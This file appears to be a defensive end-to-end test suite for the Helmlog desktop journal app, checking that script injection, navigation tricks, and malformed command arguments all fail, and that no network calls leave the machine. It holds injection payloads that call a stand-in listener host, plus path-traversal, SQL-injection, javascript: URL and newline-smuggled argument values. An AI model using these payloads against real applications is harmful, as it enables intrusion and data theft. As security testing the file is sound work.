/** What somebody could try who gets a script into the page: each attempt is made, and must come to nothing. */
import { spawnSync } from 'node:child_process'
import { chmodSync, readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { expect, sleep, test, Window } from './harness'
import { desktop, terminal } from './harness/places'
import { hostile } from './hostile'

/** Somebody who would like to be asked for something. */
async function listener(): Promise<{ host: string; asked: string[]; server: Server }> {
  const asked: string[] = []
  const server = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.end('window.__pwned = "by a file"')
  })
  server.on('upgrade', (request) => asked.push(request.url ?? ''))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  return { host: `127.0.0.1:${String(typeof address === 'object' ? address?.port : '')}`, asked, server }
}

const pwned = (window: Window) => window.driver.executeScript<unknown>('return window.__pwned')

test('a script that gets into the page cannot run more, and cannot reach anybody', async ({ user, open }) => {
  const { host, asked, server } = await listener()
  await user.begins()
  const window = await open()
  await window.find('textbox', 'What happened')
  await window.driver.executeScript(
    `const host = arguments[0]
     const put = (html) => document.body.insertAdjacentHTML('beforeend', html)
     const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set))
     add('script', { textContent: 'window.__pwned = "inline"' })
     add('script', { src: 'http://' + host + '/script.js' })
     add('script', { src: 'data:text/javascript,window.__pwned="data"' })
     add('script', { type: 'module', textContent: 'window.__pwned = "module"' })
     put('<img src="http://' + host + '/image" onerror="window.__pwned = 1">')
     put('<div id="trap" onclick="window.__pwned = 2"></div>')
     document.getElementById('trap').click()
     put('<iframe src="http://' + host + '/frame"></iframe><iframe srcdoc="<script>parent.__pwned = 3</script>"></iframe>')
     put('<object data="http://' + host + '/object"></object><embed src="http://' + host + '/embed">')
     put('<video src="http://' + host + '/video" autoplay></video><audio src="http://' + host + '/audio" autoplay></audio>')
     add('link', { rel: 'stylesheet', href: 'http://' + host + '/style' })
     add('link', { rel: 'prefetch', href: 'http://' + host + '/prefetch' })
     add('style', { textContent: '@font-face { font-family: x; src: url("http://' + host + '/font") } * { font-family: x }' })
     add('style', { textContent: 'body { background: url("http://' + host + '/background") }' })
     put('<form id="form" action="http://' + host + '/form" method="post"></form>')
     document.getElementById('form').submit()
     put('<base href="http://' + host + '/">')
     const swallow = (work) => { try { const done = work(); done?.catch?.(() => {}) } catch {} }
     swallow(() => fetch('http://' + host + '/fetch', { mode: 'no-cors' }))
     swallow(() => { const one = new XMLHttpRequest(); one.open('GET', 'http://' + host + '/xhr'); one.send() })
     swallow(() => new WebSocket('ws://' + host + '/socket'))
     swallow(() => new EventSource('http://' + host + '/events'))
     swallow(() => navigator.sendBeacon('http://' + host + '/beacon', 'x'))
     swallow(() => new Worker('data:text/javascript,fetch("http://' + host + '/worker")'))
     swallow(() => import('http://' + host + '/import.js'))
     swallow(() => (0, eval)('window.__pwned = "eval"'))
     swallow(() => new Function('window.__pwned = "function"')())
     swallow(() => setTimeout('window.__pwned = "timer"', 0))
     swallow(() => { Object.prototype.polluted = true })`,
    host,
  )
  await sleep(1_000)
  expect(await pwned(window)).toBeFalsy()
  expect(asked).toEqual([])
  expect(await window.driver.executeScript('return ({}).polluted')).toBeNull()
  server.close()
})

test('nothing leads the window elsewhere, and there is never a second one', async ({ user, open }) => {
  const { host, asked, server } = await listener()
  await user.begins()
  const window = await open()
  await window.find('textbox', 'What happened')
  for (const address of [
    `http://${host}/`,
    'https://example.org/',
    'file:///etc/hostname',
    'javascript:window.__pwned=1',
    'data:text/html,<script>window.__pwned=1</script>',
    'about:blank',
    'blob:null/x',
  ]) {
    await window.driver.executeScript(
      `const link = Object.assign(document.createElement('a'), { href: arguments[0], textContent: 'x' })
       document.body.append(link)
       link.click()
       link.target = '_blank'
       link.click()
       try { window.open(arguments[0]) } catch {}
       try { window.open(arguments[0], '_self') } catch {}
       try { location.assign(arguments[0]) } catch {}`,
      address,
    )
    await sleep(200)
    expect(await window.driver.executeScript('return location.protocol'), address).toBe('tauri:')
    expect(await window.driver.getAllWindowHandles(), address).toHaveLength(1)
  }
  expect(await pwned(window)).toBeFalsy()
  expect(asked).toEqual([])
  expect(
    (await window.desk.windows()).filter((title) => title.includes('Helmlog')),
    'windows on the screen',
  ).toHaveLength(1)
  server.close()
})

test('what a command is given may be anything', async ({ user, open }) => {
  await user.begins()
  const id = await user.writes('Told Dana first.')
  const window = await open()
  await window.find('textbox', 'What happened')
  const long = 'x'.repeat(3_000_000)
  const attempts: [string, unknown][] = [
    ['entry', { id: '../../etc/passwd' }],
    ['entry', { id: 17 }],
    ['entry', {}],
    ['entry', { id: long }],
    ['search', { request: { query: null } }],
    ['list', { request: { query: '', limit: -1 } }],
    ['set_profile', { profile: { name: long, role: '', target: '' } }],
    ['revert', { id, revision: "'; DROP TABLE entry; --" }],
    ['rehearse_backup', { file: '../vault.json', secret: null }],
    ['restore_backup', { file: '/etc/hostname', secret: null }],
    ['restore_backup', { file: '..', secret: null }],
    ['open_link', { url: 'file:///etc/hostname' }],
    ['open_link', { url: 'javascript:alert(1)' }],
    ['open_link', { url: 'https://example.org/\n--help' }],
    ['set_lock_after', { minutes: 1e9 }],
    ['unlock', { secret: long }],
  ]
  for (const [command, args] of attempts) {
    expect(await window.invoke(command, args), command).toMatchObject({ ok: false })
  }
  expect(await window.invoke('today')).toMatchObject({ ok: true })
  expect(await user.count()).toBe(1)
})

test('hostile words are words on every screen', async ({ user, open }) => {
  const { host, asked, server } = await listener()
  await user.begins()
  const lines = hostile(host)
  for (const [at, text] of lines.entries()) {
    const told = await user.tryHelmlog([
      'add',
      '--title',
      `${text.replaceAll('\n', ' ').slice(0, 150)}`,
      '--tag',
      text.replace(/[\s,]/g, '').slice(0, 50) || 'tag',
      '--person',
      text.replaceAll('\n', ' ').slice(0, 80),
      '--kind',
      (['win', 'challenge', 'lesson', 'decision'] as const)[at % 4] ?? 'win',
      '--competency',
      'strategy:2',
      '--',
      `Trap ${String(at)}.\n\n${text}`,
    ])
    // What a tag or a name may not hold is refused, which is as good; the words are stored then without.
    if (told.code !== 0) await user.writes(`Trap ${String(at)}.\n\n${text}`)
  }
  const window = await open()
  await window.find('textbox', 'What happened')
  await window.driver.executeScript(
    `window.__violations = []
     addEventListener('securitypolicyviolation', (event) => window.__violations.push(event.violatedDirective))`,
  )
  await window.go('Journal')
  await window.shown('[data-entry]')
  await window.searches('trap')
  await window.find('listbox', 'Entries found')
  await window.press('Escape')
  await window.gone('dialog')
  for (const screen of ['Growth', 'Portfolio']) {
    await window.go(screen)
    await sleep(500)
  }
  const { lines: entries } = JSON.parse(
    await user.helmlog('list', '--json', '--limit', String(lines.length)),
  ) as { lines: { id: string }[] }
  expect(entries).toHaveLength(lines.length)
  for (const { id } of entries) {
    const { html, private_html } = (await window.invoke('entry', { id })).value as Record<string, string>
    expect(`${String(html)}${String(private_html)}`).not.toMatch(
      /<(script|iframe|object|embed|form|svg|math|base|meta|link)\b/i,
    )
  }
  await window.go('Journal')
  await window.clickShown('[data-entry]')
  const article = await window.find('article')
  for (const link of await article.findElements({ css: 'a' })) await link.click().catch(() => undefined)
  await sleep(500)
  expect(await pwned(window)).toBeFalsy()
  expect(asked).toEqual([])
  expect(await window.driver.executeScript('return window.__violations')).toEqual([])
  expect(await window.driver.executeScript('return location.protocol')).toBe('tauri:')
  server.close()
  console.log(`hostile text in an entry | tried ${String(entries.length)} | lost 0`)
})

test('while it is locked, no command tells anything', async ({ user, open }) => {
  await user.begins()
  const id = await user.writes('Zanzibarquokka was promoted.')
  await user.locks('four words without order')
  const window = await open()
  await window.find('textbox', 'Passphrase or recovery code')
  const bindings = readFileSync(
    fileURLToPath(new URL('../../ui/src/boundary/bindings.ts', import.meta.url)),
    'utf8',
  )
  const commands = [...bindings.matchAll(/__TAURI_INVOKE\("([a-z_]+)"/g)].map(([, name]) => name ?? '')
  expect(commands.length).toBeGreaterThan(50)
  // These end the program, open a dialog of the system, or are there to be called now.
  const beside = ['ready_to_close', 'create_vault', 'launch', 'stop_backup', 'open_link', 'show_export']
  const args = {
    id,
    entry: id,
    request: { query: '', limit: 10 },
    period: { from: '2026-01-01', to: '2026-12-31' },
    key: 'strategy',
    secret: null,
    file: 'x',
    minutes: 5,
    theme: 'dark',
    sample: false,
    place: '',
    month: '2026-11',
    present: 'x',
    fresh: 'x',
    code: 'x',
  }
  for (const command of commands.filter((name) => !beside.includes(name))) {
    const answer = await window.invoke(command, args)
    expect(answer, command).toMatchObject({ ok: false })
    expect(JSON.stringify(answer)).not.toMatch(/zanzibarquokka/i)
  }
  expect(await window.driver.executeScript('return document.documentElement.outerHTML')).not.toMatch(
    /zanzibarquokka/i,
  )
})

/** What of a log of strace speaks of the internet: all but what stays on this computer. */
function abroad(log: string): string[] {
  return log
    .split('\n')
    .filter((line) => /AF_INET6?\b/.test(line))
    .filter((line) => !/inet_addr\("127\.|"::1"/.test(line))
}

/** Runs a program under strace, which notes every call that reaches out. */
const watched = (log: string) => [
  '-f',
  '--seccomp-bpf',
  '-qq',
  '-e',
  'trace=connect,bind,sendto,sendmsg,sendmmsg',
  '-o',
  log,
]

test('no program of Helmlog calls anybody: neither the window nor the terminal, in a whole session', async ({
  user,
  desk,
}) => {
  const log = join(user.home, 'calls')
  // That a call would be seen: one to an address that nobody has.
  const call =
    "const s = require('net').connect(9, '192.0.2.1'); setTimeout(() => process.exit(), 200); s.on('error', () => {})"
  spawnSync('strace', [...watched(log), process.execPath, '-e', call])
  expect(abroad(readFileSync(log, 'utf8')).join('\n')).toContain('192.0.2.1')

  await user.begins('sample')
  const program = user.keeps(
    'watched-window',
    `#!/bin/sh\nexec strace ${watched(log).join(' ')} ${desktop} "$@"\n`,
  )
  chmodSync(program, 0o755)
  const window = await Window.open(desk, user, {}, program)
  try {
    await window.find('textbox', 'What happened', 60_000)
    await window.type('Nothing of this leaves the computer.')
    await window.saved()
    await window.searches('launch')
    await window.find('listbox', 'Entries found')
    await window.press('Escape')
    await window.gone('dialog')
    for (const screen of ['Journal', 'Growth', 'Portfolio', 'Settings']) await window.go(screen)
    await window.click('button', 'Back up now')
    await window.reads('Made and read back.')
    expect(await window.invoke('set_passphrase', { fresh: 'four words without order' })).toMatchObject({
      ok: true,
    })
    expect(await window.invoke('lock', { place: '' })).toMatchObject({ ok: true })
    expect(await window.invoke('unlock', { secret: 'four words without order' })).toMatchObject({ ok: true })
    // By itself: what watches is not what is watched, and would leave it behind.
    await window.close()
  } finally {
    window.kill()
  }
  const calls = readFileSync(log, 'utf8')
  expect(calls, 'something was watched: the screen and the bus are called').toContain('AF_UNIX')
  expect(abroad(calls)).toEqual([])

  const file = user.keeps('passphrase', 'four words without order')
  const pdf = join(user.home, 'review.pdf')
  for (const args of [
    ['add', 'Nor this.'],
    ['search', 'launch'],
    ['portfolio', '--format', 'pdf', '--out', pdf],
    ['check'],
    ['backup', 'create'],
  ]) {
    const told = spawnSync('strace', [...watched(log), terminal, '--passphrase-file', file, ...args], {
      env: { ...user.env, PATH: '/usr/bin:/bin' },
    })
    expect(told.status, `${args.join(' ')}: ${told.stderr.toString()}`).toBe(0)
    expect(abroad(readFileSync(log, 'utf8')), args.join(' ')).toEqual([])
  }
})
